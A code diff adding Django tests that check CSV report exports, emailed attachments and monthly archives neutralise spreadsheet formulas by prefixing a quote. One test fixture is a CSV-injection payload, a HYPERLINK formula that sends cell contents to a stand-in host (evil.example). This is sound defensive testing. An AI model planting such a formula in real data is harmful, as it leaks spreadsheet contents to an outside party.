@@ -2,10 +2,12 @@ import csv
 import gzip
 import io
 from datetime import datetime, timedelta
+from decimal import Decimal
 
 import pytest
 from django.core import mail
 from django.core.management import CommandError, call_command
+from django.urls import reverse
 
 from reports.export.archive import archive_month
 from reports.export.mail import send_snapshot_mail, unsent_snapshot_ids
@@ -160,3 +162,75 @@ def test_the_archive_command_reports_each_file(db, storage, capsys):
 
     out = capsys.readouterr().out
     assert "events: 0 rows" in out and "Archived 2025-10" in out
+
+
+# --- formulas in CSV cells (docs/reliability.md "CSV exports") -----------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click for details")'
+
+
+def csv_cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_a_hyperlink_formula_sent_as_an_event_page_is_not_live_in_the_weekly_csvs(db, client, analyst):
+    from events.models import IngestKey
+    from reports.snapshots.build import build_snapshot
+    from tests.reports.snapshot_data import AFTER_WEEK, ensure_funnel_plan
+
+    ensure_funnel_plan()
+    _, raw_key = IngestKey.generate(name="server", source="crm")
+    batch = [
+        {"event_name": "page_view", "user_id": "attacker", "page": HYPERLINK, "ts": "2025-11-12T09:00:00+08:00"},
+        {"event_name": "pay_success", "user_id": "attacker", "page": "checkout", "value": "10",
+         "currency": "CNY", "ts": "2025-11-12T10:00:00+08:00"},
+    ]  # fmt: skip
+    sent = client.post("/api/v1/events", batch, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {raw_key}")
+    assert sent.json()["accepted"] == 2
+    snapshot = build_snapshot("weekly", "2025-W46", now=AFTER_WEEK)
+    client.force_login(analyst)
+
+    exported = client.get(reverse("snapshot-section-csv", args=[snapshot.pk, "top_paths"]))
+    SnapshotSubscription.objects.create(user=analyst, kind="weekly")
+    send_snapshot_mail(snapshot.pk, now=AFTER_WEEK)
+
+    attached = dict((name, text) for name, text, _ in mail.outbox[0].attachments)["weekly-2025-W46-top_paths.csv"]
+    for text in (exported.content.decode(), attached):
+        path_cell = csv_cells(text)[1][0]
+        assert path_cell == "'" + HYPERLINK  # shown as text, never run
+        assert csv_cells(text)[1][1] == "1"
+
+
+def test_every_formula_start_is_neutralised_and_negative_numbers_stay_numbers():
+    section = Section("signals", "Signals", ["Campaign", "Change"])
+    for name in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "Q4 sale"):
+        section.add(name, None)
+    section.add("Refunds", Decimal("-12.50"))  # cell() keeps it as the text "-12.50"
+    section.add("Change", -3)
+    section.add("Growth", 0.25)
+
+    rows = csv_cells(section_csv(section.as_dict()))[1:]
+
+    assert [row[0] for row in rows[:8]] == [
+        "'=1+1",
+        "'+1+1",
+        "'-1+1",
+        "'@SUM(A1)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "'-",
+        "Q4 sale",
+    ]
+    assert [row[1] for row in rows[8:]] == ["-12.50", "-3", "0.25"]
+
+
+def test_the_monthly_archive_neutralises_formulas_in_event_fields(db, storage):
+    save(event("page_view", "@evil", at("2025-10-10"), page=HYPERLINK, value="-12.50"))
+
+    archive_month("2025-10")
+
+    events = read_gzip_csv(storage / "archive/2025/2025-10/events.csv.gz")
+    header, row = events[0], events[1]
+    assert row[header.index("page")] == "'" + HYPERLINK
+    assert row[header.index("user_id")] == "'@evil"
+    assert row[header.index("value")] == "-12.50"
